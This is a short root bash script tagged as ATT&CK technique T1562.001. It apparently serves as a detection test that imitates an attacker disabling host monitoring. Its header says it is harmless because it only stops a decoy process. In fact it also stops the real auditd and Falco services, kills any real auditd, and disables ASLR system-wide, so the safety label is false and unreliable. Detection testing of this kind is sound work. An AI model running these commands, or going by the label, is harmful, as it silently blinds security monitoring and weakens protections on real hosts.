#!/bin/bash
# technique: T1562.001 Impair Defenses: Disable or Modify Tools
# tactic: defense-evasion
# user: root
# does: stops what watches the host
# harmless: what it stops is a sleep under another name that it started

cp /usr/bin/sleep /tmp/auditd
/tmp/auditd 20 &
sleep 0.2
systemctl stop auditd falco >/dev/null 2>&1
pkill -9 -x auditd
rm -f /tmp/auditd
mv /etc/logrotate.d /etc/logrotate.off
mv /etc/logrotate.off /etc/logrotate.d
{ echo 0 >/proc/sys/kernel/randomize_va_space; } 2>/dev/null
true
